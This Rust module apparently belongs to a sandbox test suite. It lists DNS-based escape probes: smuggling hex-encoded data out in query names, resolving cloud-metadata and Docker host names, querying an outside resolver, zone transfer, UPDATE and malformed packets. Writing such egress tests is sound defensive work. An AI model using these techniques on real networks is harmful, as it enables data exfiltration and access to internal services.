//! Names: data leaves in a question as well as in a connection.

use std::{
    io::{self, Read, Write},
    net::{Ipv4Addr, SocketAddr, TcpStream, UdpSocket},
    time::Duration,
};

use palisade_core::Layer;

use super::network::shown;
use crate::attempt::{Act, Attempt, Outcome};

const PATIENCE: Duration = Duration::from_secs(5);
/// Where the resolver is for every agent.
const RESOLVER: (Ipv4Addr, u16) = (Ipv4Addr::LOCALHOST, 53);

// Types and classes of questions (RFC 1035, 9460).
const A: u16 = 1;
const PTR: u16 = 12;
const TXT: u16 = 16;
const SRV: u16 = 33;
const HTTPS: u16 = 65;
const AXFR: u16 = 252;
const ANY: u16 = 255;
const IN: u16 = 1;
const CHAOS: u16 = 3;

const fn attempt(name: &'static str, tries: &'static str, act: Act) -> Attempt {
    Attempt { name, tries, layer: Layer::Network, act }
}

macro_rules! resolves {
    ($name:literal, $tries:literal, $host:literal) => {
        attempt($name, $tries, Act::Resolve(|_| Some($host.to_owned())))
    };
}

macro_rules! asks {
    ($name:literal, $tries:literal, $kind:expr, $class:expr) => {
        attempt(
            $name,
            $tries,
            Act::Ask(|name| judged(by_udp(RESOLVER.into(), &question(name, $kind, $class)))),
        )
    };
}

pub(super) static ATTEMPTS: &[Attempt] = &[
    attempt(
        "resolves_unlisted_name",
        "resolve an unlisted name",
        Act::Resolve(|targets| targets.unlisted_host.clone()),
    ),
    attempt(
        "resolves_with_trailing_dot",
        "resolve an unlisted name with a dot",
        Act::Resolve(|targets| Some(format!("{}.", targets.unlisted_host.as_deref()?))),
    ),
    attempt(
        "resolves_in_capitals",
        "resolve an unlisted name in capitals",
        Act::Resolve(|targets| Some(targets.unlisted_host.as_deref()?.to_ascii_uppercase())),
    ),
    attempt(
        "sends_data_in_name",
        "send data out in a name",
        Act::Resolve(|targets| {
            let name = targets.unlisted_host.as_deref()?;
            Some(format!("{}.{}.{name}", "4f6e6365".repeat(7), "75706f6e".repeat(7)))
        }),
    ),
    attempt(
        "resolves_below_listed_name",
        "resolve a name below a listed one",
        Act::Resolve(|targets| Some(format!("data.{}", targets.listed_name.as_deref()?))),
    ),
    attempt(
        "resolves_name_with_listed_start",
        "resolve a name that begins like a listed one",
        Act::Resolve(|targets| {
            let (listed, unlisted) =
                (targets.listed_name.as_deref()?, targets.unlisted_host.as_deref()?);
            Some(format!("{listed}.{unlisted}"))
        }),
    ),
    attempt(
        "resolves_name_with_listed_end",
        "resolve a name that ends like a listed one",
        Act::Resolve(|targets| Some(format!("not-{}", targets.listed_name.as_deref()?))),
    ),
    resolves!("resolves_metadata_name", "resolve the cloud's metadata", "metadata.google.internal"),
    resolves!("resolves_instance_data", "resolve an instance's data", "instance-data.ec2.internal"),
    resolves!("resolves_docker_host", "resolve Docker's host", "host.docker.internal"),
    resolves!("resolves_local_name", "resolve a name of the local network", "printer.local"),
    resolves!("resolves_hidden_service", "resolve a hidden service", "palisade.onion"),
    resolves!("resolves_address_in_name", "resolve an address in a name", "127.0.0.1.nip.io"),
    resolves!("resolves_doh_server", "resolve a resolver", "dns.google"),
    asks!("asks_for_text", "ask for text (TXT)", TXT, IN),
    asks!("asks_for_anything", "ask for all records (ANY)", ANY, IN),
    asks!("asks_for_service", "ask for services (SRV)", SRV, IN),
    asks!("asks_for_https_record", "ask for HTTPS records", HTTPS, IN),
    asks!("asks_for_version", "ask in another class (CHAOS)", TXT, CHAOS),
    attempt(
        "walks_addresses",
        "ask for an address's name (PTR)",
        Act::Do(|_| {
            let name = "1.0.0.10.in-addr.arpa";
            Some(judged(by_udp(RESOLVER.into(), &question(name, PTR, IN))))
        }),
    ),
    attempt(
        "transfers_zone",
        "transfer a zone (AXFR)",
        Act::Ask(|name| judged(by_tcp(RESOLVER.into(), &question(name, AXFR, IN)))),
    ),
    attempt(
        "resolves_by_tcp",
        "resolve an unlisted name by TCP",
        Act::Ask(|name| judged(by_tcp(RESOLVER.into(), &question(name, A, IN)))),
    ),
    attempt(
        "asks_other_resolver",
        "ask another resolver",
        Act::Ask(|name| {
            judged(by_udp(SocketAddr::from(([8, 8, 8, 8], 53)), &question(name, A, IN)))
        }),
    ),
    attempt(
        "asks_other_resolver_by_tcp",
        "ask another resolver by TCP",
        Act::Ask(|name| {
            judged(by_tcp(SocketAddr::from(([8, 8, 8, 8], 53)), &question(name, A, IN)))
        }),
    ),
    attempt(
        "updates_zone",
        "change a zone (UPDATE)",
        Act::Ask(|name| {
            let mut packet = question(name, A, IN);
            if let Some(flags) = packet.get_mut(2) {
                *flags = 5 << 3;
            }
            judged(by_udp(RESOLVER.into(), &packet))
        }),
    ),
    attempt(
        "loops_in_packet",
        "loop in a compressed name",
        Act::Do(|_| {
            // A name that is a pointer to itself, at byte 12.
            let mut packet = header();
            packet.extend([0xc0, 12, 0, 1, 0, 1]);
            Some(judged(by_udp(RESOLVER.into(), &packet)))
        }),
    ),
    attempt(
        "asks_without_end",
        "send a packet that is cut",
        Act::Ask(|name| {
            let mut packet = question(name, A, IN);
            packet.truncate(15);
            judged(by_udp(RESOLVER.into(), &packet))
        }),
    ),
];

/// An id, recursion wanted, one question.
fn header() -> Vec<u8> {
    vec![0x70, 0x61, 0x01, 0, 0, 1, 0, 0, 0, 0, 0, 0]
}

fn question(name: &str, kind: u16, class: u16) -> Vec<u8> {
    let mut packet = header();
    for label in name.split('.').filter(|label| !label.is_empty()) {
        packet.push(u8::try_from(label.len()).unwrap_or(63));
        packet.extend(label.bytes().take(63));
    }
    packet.push(0);
    packet.extend(kind.to_be_bytes());
    packet.extend(class.to_be_bytes());
    packet
}

fn by_udp(to: SocketAddr, packet: &[u8]) -> io::Result<Vec<u8>> {
    let socket = UdpSocket::bind((Ipv4Addr::UNSPECIFIED, 0))?;
    socket.set_read_timeout(Some(PATIENCE))?;
    socket.connect(to)?;
    socket.send(packet)?;
    let mut answer = vec![0; 4096];
    let read = socket.recv(&mut answer)?;
    answer.truncate(read);
    Ok(answer)
}

fn by_tcp(to: SocketAddr, packet: &[u8]) -> io::Result<Vec<u8>> {
    let mut stream = TcpStream::connect_timeout(&to, PATIENCE)?;
    stream.set_read_timeout(Some(PATIENCE))?;
    let length = u16::try_from(packet.len()).unwrap_or(u16::MAX);
    stream.write_all(&[&length.to_be_bytes(), packet].concat())?;
    let mut length = [0; 2];
    stream.read_exact(&mut length)?;
    let mut answer = vec![0; usize::from(u16::from_be_bytes(length))];
    stream.read_exact(&mut answer)?;
    Ok(answer)
}

/// A refusal, by a code and without a record. No answer at all is none of the resolver's.
fn judged(answer: io::Result<Vec<u8>>) -> Outcome {
    let answer = match answer {
        Ok(answer) => answer,
        Err(error) => return Outcome::Unclear(format!("no answer: {}", shown(&error))),
    };
    let (Some(flags), Some(counts)) = (answer.get(3), answer.get(6..8)) else {
        return Outcome::Unclear("an answer that is none".to_owned());
    };
    let records = counts.iter().fold(0_u16, |all, byte| all << 8 | u16::from(*byte));
    let code = match flags & 0xf {
        0 => "no error",
        1 => "malformed",
        2 => "failure",
        3 => "no such name",
        4 => "not implemented",
        5 => "refused",
        _ => "another code",
    };
    if records == 0 {
        Outcome::Stopped(format!("{code}, and no record"))
    } else {
        Outcome::Worked(format!("{code}, and {records} records"))
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn a_question_is_what_the_rfc_says() {
        let packet = question("a.bc", TXT, IN);
        assert_eq!(&packet[12..], b"\x01a\x02bc\0\0\x10\0\x01");
        assert!(matches!(judged(Ok(packet)), Outcome::Stopped(_)));
    }
}
